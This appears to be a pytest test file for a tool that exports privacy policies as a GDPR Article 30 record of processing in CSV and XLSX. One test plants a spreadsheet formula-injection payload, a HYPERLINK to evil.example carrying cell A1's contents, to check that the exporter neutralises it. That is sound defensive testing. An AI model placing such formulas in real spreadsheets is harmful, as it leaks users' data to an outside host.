"""policyval export --format ropa-csv|ropa-xlsx: the record of processing activities (GDPR Art. 30(1))."""

from __future__ import annotations

import csv
import io
from pathlib import Path
from typing import Any

import pytest
from openpyxl import load_workbook

from policyval.check.load import load_text
from policyval.cli import main
from policyval.publish import ropa

ROOT = Path(__file__).resolve().parent.parent
POLICIES = sorted((ROOT / "policies").glob("*.yaml"))
COMPLETE = ROOT / "tests" / "cases" / "valid" / "complete-gdpr.yaml"
US = ROOT / "tests" / "cases" / "valid" / "1.1" / "us-state-law.yaml"
ART30 = ("(a)", "(b)", "(c)", "(d)", "(e)", "(f)", "(g)")


def data(path: Path) -> dict[str, Any]:
    loaded: dict[str, Any] = load_text(path.read_text("utf-8")).data
    return loaded


def exported_csv(capsys: pytest.CaptureFixture[bytes], *paths: Path) -> list[dict[str, str]]:
    assert main(["export", "--format", "ropa-csv", *map(str, paths)]) == 0
    raw = capsys.readouterr().out
    text = raw.decode("utf-8") if isinstance(raw, bytes) else raw
    assert "\r\n" in text, "RFC 4180 line ends"
    return list(csv.DictReader(io.StringIO(text, newline="")))


def by_purpose(rows: list[dict[str, str]]) -> dict[str, dict[str, str]]:
    return {r["Purpose of processing"]: r for r in rows}


def test_every_item_of_article_30_1_has_a_column() -> None:
    items = {c.item for c in ropa.COLUMNS if c.item}
    assert {f"Art. 30(1){x}" for x in ART30} == items
    assert all(c.cnil for c in ropa.COLUMNS if c.item), "each Art. 30 column names the CNIL heading too"
    assert ropa.HEADINGS[0] == "Policy file"


def test_one_row_per_purpose_and_no_blank_cell(capsys: pytest.CaptureFixture[bytes]) -> None:
    rows = exported_csv(capsys, *POLICIES)
    assert len(rows) == sum(len(data(p)["purposes"]) for p in POLICIES)
    assert {r["Policy file"] for r in rows} == {str(p) for p in POLICIES}
    assert all(value.strip() for r in rows for value in r.values()), "a gap is written, never left blank"
    assert any(ropa.GAP in value for r in rows for value in r.values())


def test_cells_say_what_the_policy_says(capsys: pytest.CaptureFixture[bytes]) -> None:
    rows = by_purpose(exported_csv(capsys, COMPLETE))
    orders = rows["Taking, delivering and invoicing orders (Customer Order Management)"]
    assert orders["Controller"] == "Example Shop SAS"
    assert "privacy@shop.example.fr" in orders["Controller contact details"]
    assert orders["Data protection officer"] == "Data Protection Officer — E-mail: dpo@shop.example.fr"
    assert orders["Categories of individuals"] == "Customers"
    assert orders["Categories of personal data"] == "name, e-mail and postal address; payment card details"
    assert "Example Cloud Inc. (processor), United States of America" in orders["Categories of recipients"]
    transfers = "Names of third countries or international organisations that personal data are transferred to"
    assert orders[f"{transfers} (if applicable)"] == "United States of America"
    assert orders["Retention schedule (if possible)"] == (
        "name, e-mail and postal address: 3 years from the last order, then deletion; "
        "payment card details: 13 months, then deletion"
    )
    assert orders["Article 6 lawful basis for processing personal data"] == "Art 6(1-b) contract"
    interests = "Legitimate interests for the processing (if applicable)"
    assert orders[interests] == "not applicable: the purpose does not rely on legitimate interests"
    fraud = rows["Preventing payment fraud (Fraud Prevention and Detection)"]
    assert fraud[interests] == "Protecting the shop and its customers against payment fraud"
    # The accounting purpose keeps card details 10 years; the policy gives no period for the
    # other data that purpose uses: said per category, not filled in from another purpose.
    accounts = rows["Keeping the accounting records the law requires (Legal Compliance)"]
    assert accounts["Retention schedule (if possible)"] == (
        "payment card details: 10 years, then deletion; name, e-mail and postal address: not stated in the policy"
    )
    assert accounts["Categories of recipients"] == ropa.GAP
    assert accounts["Representative"] == ropa.GAP


def test_statements_of_absence_are_answers_not_gaps(capsys: pytest.CaptureFixture[bytes]) -> None:
    rows = exported_csv(capsys, US)
    assert {r["Data protection officer"] for r in rows} == {
        "none: the policy says “we have not appointed a data protection officer”"
    }


def test_a_privacy_officer_is_not_called_a_dpo(capsys: pytest.CaptureFixture[bytes]) -> None:
    rows = exported_csv(capsys, ROOT / "policies" / "planorama.yaml")
    [officer] = {r["Data protection officer"] for r in rows}
    assert officer.startswith(f"{ropa.GAP}; it names a privacy officer: ")
    assert "dpr@planorama.com" in officer


def test_one_row_per_purpose_per_controller(tmp_path: Path, capsys: pytest.CaptureFixture[bytes]) -> None:
    text = COMPLETE.read_text("utf-8").replace('schema_version: "1.0"', 'schema_version: "1.1"')
    text += (
        "controllers:\n"
        "  - id: example-logistics\n"
        "    legal_name: Example Logistics SARL\n"
        "    controller_for:\n"
        "      purposes: [orders]\n"
    )
    policy = tmp_path / "two-controllers.yaml"
    policy.write_text(text, "utf-8")
    rows = exported_csv(capsys, policy)
    purposes = len(data(COMPLETE)["purposes"])
    assert len(rows) == purposes + 1
    logistics = [r for r in rows if r["Controller"].startswith("Example Logistics SARL")]
    assert [r["Purpose of processing"] for r in logistics] == [
        "Taking, delivering and invoicing orders (Customer Order Management)"
    ]
    assert logistics[0]["Controller"] == "Example Logistics SARL (responsible for: purposes: orders)"
    assert logistics[0]["Controller contact details"] == ropa.GAP


def test_a_policy_without_purposes_still_has_its_row() -> None:
    [row] = ropa.rows("bare.yaml", {"schema_version": "1.1", "controller": {"legal_name": "Bare Ltd"}})
    assert row[1] == "Bare Ltd"
    assert row[ropa.HEADINGS.index("Purpose of processing")] == ropa.GAP
    assert all(row)


def test_policy_text_never_becomes_a_formula(tmp_path: Path, capsys: pytest.CaptureFixture[bytes]) -> None:
    hostile = '=HYPERLINK("https://evil.example/?"&A1,"click")'
    text = COMPLETE.read_text("utf-8").replace("legal_name: Example Shop SAS", f"legal_name: '{hostile}'")
    policy = tmp_path / "hostile.yaml"
    policy.write_text(text, "utf-8")
    rows = exported_csv(capsys, policy)
    assert {r["Controller"] for r in rows} == {"'" + hostile}
    out = tmp_path / "ropa.xlsx"
    assert main(["export", "--format", "ropa-xlsx", str(policy), "-o", str(out)]) == 0
    sheet = load_workbook(out)["Record of processing"]
    cell = sheet.cell(row=2, column=2)
    assert (cell.value, cell.data_type) == ("'" + hostile, "s")


def test_xlsx_reads_back_as_the_csv(tmp_path: Path, capsys: pytest.CaptureFixture[bytes]) -> None:
    rows = exported_csv(capsys, *POLICIES)
    out = tmp_path / "ropa.xlsx"
    assert main(["export", "--format", "ropa-xlsx", *map(str, POLICIES), "--output", str(out)]) == 0
    book = load_workbook(out, read_only=True)
    record = [
        [c if c is not None else "" for c in row] for row in book["Record of processing"].iter_rows(values_only=True)
    ]
    assert record[0] == list(ropa.HEADINGS)
    assert record[1:] == [list(r.values()) for r in rows]
    columns = list(book["Columns"].iter_rows(values_only=True))
    assert columns[0] == ("Column", "Art. 30(1)", "ICO template heading", "CNIL registre heading")
    assert columns[13][:2] == ("Retention schedule (if possible)", "Art. 30(1)(f)")
    assert "Durées de conservation des catégories de données" in {row[3] for row in columns}


def test_xlsx_is_reproducible(tmp_path: Path) -> None:
    first, second = tmp_path / "a.xlsx", tmp_path / "b.xlsx"
    for out in (first, second):
        assert main(["export", "--format", "ropa-xlsx", str(COMPLETE), "-o", str(out)]) == 0
    assert first.read_bytes() == second.read_bytes()


def test_xlsx_needs_an_output_file(capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "--format", "ropa-xlsx", str(COMPLETE)]) == 2
    assert "--format ropa-xlsx writes a binary file: give --output FILE" in capsys.readouterr().err


def test_a_policy_with_schema_errors_is_not_exported(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bad = tmp_path / "bad.yaml"
    bad.write_text('schema_version: "1.1"\ncontroller: [not, a, mapping]\n', "utf-8")
    out = tmp_path / "ropa.xlsx"
    assert main(["export", "--format", "ropa-xlsx", str(COMPLETE), str(bad), "-o", str(out)]) == 1
    assert "[schema/type]" in capsys.readouterr().err
    assert not out.exists()
